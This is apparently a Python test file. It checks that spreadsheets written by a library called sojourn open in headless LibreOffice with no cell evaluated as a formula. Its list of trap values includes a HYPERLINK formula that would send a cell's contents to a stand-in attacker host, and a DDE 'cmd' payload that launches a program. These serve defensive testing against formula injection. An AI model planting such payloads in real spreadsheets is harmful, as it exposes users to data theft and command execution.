"""What LibreOffice makes of our files: every sheet opens, every row is there, and no cell is worked out."""

from __future__ import annotations

import csv
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from sojourn.evidence.files.delimited import DelimitedFile
from sojourn.evidence.files.sheet import Column, Counted, Sheet
from sojourn.evidence.files.workbook import open_workbook
from sojourn.testing.packages import install

EVERY_SHEET = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
TRAPS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "1E5",
    "0012",
    "2026-01-02",
    "a\nb",
    "żółć 中文 \U0001f600",
)


@pytest.fixture(scope="module")
def office() -> str:
    """LibreOffice Calc without a screen."""
    install({"libreoffice-calc-nogui": "/usr/bin/soffice"})
    return "soffice"


def _opened(office: str, path: Path, directory: Path, form: str) -> None:
    """Open a file and write what LibreOffice has in it, as `form`."""
    profile = f"-env:UserInstallation=file://{directory / 'profile'}"
    command = [office, profile, "--headless", "--convert-to", form, "--outdir", str(directory), str(path)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=240)
    assert done.returncode == 0, done.stdout + done.stderr


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def _sheet(name: str) -> Sheet:
    columns = (Column(name="number", meaning="n"), Column(name="text", meaning="t"))
    return Sheet(name=name, purpose="x", columns=columns, rows=list(enumerate(TRAPS)))


def test_a_workbook_opens_with_every_sheet_and_no_cell_is_worked_out(office: str, tmp_path: Path) -> None:
    path = tmp_path / "traps.xlsx"
    with open_workbook(path, title="traps", created=datetime(2026, 1, 1, tzinfo=UTC)) as book:
        for name in ("First", "Second"):
            sheet = _sheet(name)
            writer = book.add(sheet)
            for row in sheet.rows:
                writer.write(row)
    _opened(office, path, tmp_path, EVERY_SHEET)
    for name in ("First", "Second"):
        header, *rows = _rows(tmp_path / f"traps-{name}.csv")
        assert header == ["number", "text"] and [row[0] for row in rows] == [str(one) for one in range(len(TRAPS))]
        shown = [row[1] for row in rows]
        plain = [text for text in TRAPS if not text.startswith(("\t", "\r"))]
        assert [text for text in shown if "=1+1" not in text] == plain
        assert sum("=1+1" in text for text in shown) == 2


def test_a_csv_opens_with_its_traps_as_text(office: str, tmp_path: Path) -> None:
    path = tmp_path / "traps.csv"
    sheet = _sheet("Traps")
    with path.open("w", encoding="utf-8", newline="") as out:
        table = DelimitedFile(out, sheet)
        for row in Counted(sheet):
            table.write(row.plain)
    _opened(office, path, tmp_path, "fods")
    document = (tmp_path / "traps.fods").read_text()
    assert "table:formula" not in document and 'xlink:href="http://attacker' not in document
